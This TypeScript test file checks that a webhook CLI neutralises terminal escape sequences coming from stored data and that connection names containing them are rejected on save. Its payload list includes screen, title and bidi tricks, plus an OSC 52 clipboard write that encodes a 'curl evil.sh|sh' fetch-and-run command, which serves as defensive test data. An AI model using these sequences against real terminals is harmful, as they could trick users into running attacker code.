import { validateNameCharacters } from '../../lambdas/core/connection';
import { ValidationError } from '../../lambdas/core/errors';
import type { AttemptRecord, Connection } from '../../lambdas/core/types';
import type { WebhookManagement } from '../../lambdas/management';
import { runCli } from '../support/cli-run';

const ESC = '\u001b';
/** What an attacker would send: clear screen, OSC title, OSC 52 clipboard write, a forged line, C1 CSI, BEL, DEL, bidi override. */
const PAYLOADS = {
  clearScreen: `${ESC}[2J${ESC}[H`,
  title: `${ESC}]0;pwned${'\u0007'}`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLnNofHNo${'\u0007'}`,
  forgedLine: '\r\n  enabled      no',
  c1Csi: '\u009b31m',
  del: '\u007f',
  bidi: '\u202egnp.exe',
};
const HOSTILE = Object.values(PAYLOADS).join('|');

/** Anything a terminal acts on, but the line breaks the CLI writes itself. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: detecting control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const connection: Connection = {
  connectionId: 'con_01JD8X3V9W2T6Q4R5S7Y8Z0A1B',
  applicationId: 'app_42',
  type: 'webhook',
  // Stored before names were checked at save, or written straight to the table.
  name: `Acme${HOSTILE}`,
  url: 'https://crm.example.com/hooks',
  method: 'POST',
  headers: { [`X-Evil${PAYLOADS.title}`]: 'v' },
  enabled: true,
  secretArn: 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:x',
  createdAt: '2026-11-21T15:00:00.000Z',
  updatedAt: '2026-11-21T15:00:00.000Z',
};

function attempt(outcome: AttemptRecord['outcome']): AttemptRecord {
  return {
    deliveryId: `dlv_01JD8X4AZ3K5M7N9P1Q3R5S7T9_${connection.connectionId}`,
    connectionId: connection.connectionId,
    applicationId: 'app_42',
    eventId: 'evt_1',
    event: 'user.identified',
    userId: 'usr_1',
    attempt: 1,
    method: 'POST',
    target: `https://crm.example.com/hooks${PAYLOADS.bidi}`,
    requestedAt: new Date().toISOString(),
    durationMs: 5,
    outcome,
    ...(outcome === 'delivered' || outcome === 'http_error'
      ? { statusCode: outcome === 'delivered' ? 200 : 503 }
      : {}),
    responseSnippet: `ok${HOSTILE}`,
    ...(outcome === 'network_error' ? { error: `ECONNRESET: ${HOSTILE}` } : {}),
    final: outcome !== 'delivered',
    test: true,
  } as AttemptRecord;
}

const management = {
  connections: { get: async () => connection },
  sendTest: async () => attempt('http_error'),
  attempts: {
    ofDelivery: async () => [attempt('network_error')],
    list: async () => [attempt('delivered'), attempt('http_error'), attempt('network_error')],
  },
} as unknown as WebhookManagement;

async function cli(argv: string[]) {
  return runCli(argv, { env: {}, open: async () => management });
}

const COMMANDS = [
  ['connections', 'send-test', connection.connectionId],
  ['connections', 'get', connection.connectionId],
  ['attempts', 'get', attempt('delivered').deliveryId],
  ['attempts', 'list', '--connection', connection.connectionId],
];

describe.each(COMMANDS)('%s %s', (...argv) => {
  it('shows every control character from outside as text, on stdout and stderr', async () => {
    const result = await cli(argv);
    expect(result.stdout).not.toMatch(RAW_CONTROL);
    expect(result.stderr).not.toMatch(RAW_CONTROL);
    // Made visible, not dropped: the operator sees that something odd was sent.
    expect(result.stdout).toMatch(/\\e\[2J|\\e]0;pwned/);
  });

  it('cannot forge a line of the output', async () => {
    const { stdout } = await cli(argv);
    expect(stdout.split('\n').filter((line) => /^\s*enabled\s+no\b/.test(line))).toEqual([]);
  });

  it('keeps --json exact: it parses back to the stored value, with no raw control character', async () => {
    const { stdout } = await cli([...argv, '--json']);
    expect(stdout).not.toMatch(RAW_CONTROL);
    const parsed = JSON.parse(stdout);
    // The hostile text comes back exactly as stored (in the name or the response snippet).
    expect(JSON.stringify(parsed)).toContain(JSON.stringify(HOSTILE).slice(1, -1));
  });
});

describe('connection names at save', () => {
  it.each(Object.entries(PAYLOADS))(
    'refuses a name with %s, naming the field and the character',
    (_, payload) => {
      const error = (() => {
        try {
          validateNameCharacters(`Acme${payload}`);
        } catch (e) {
          return e;
        }
        return undefined;
      })();
      expect(error).toBeInstanceOf(ValidationError);
      expect((error as ValidationError).message).toMatch(
        /^name: must not contain control characters \(U\+[0-9A-F]{4} at position 5\)$/,
      );
    },
  );

  it('accepts names in any script, with emoji', () => {
    expect(validateNameCharacters('Café 東京 ✓ 🚀')).toBe('Café 東京 ✓ 🚀');
  });
});
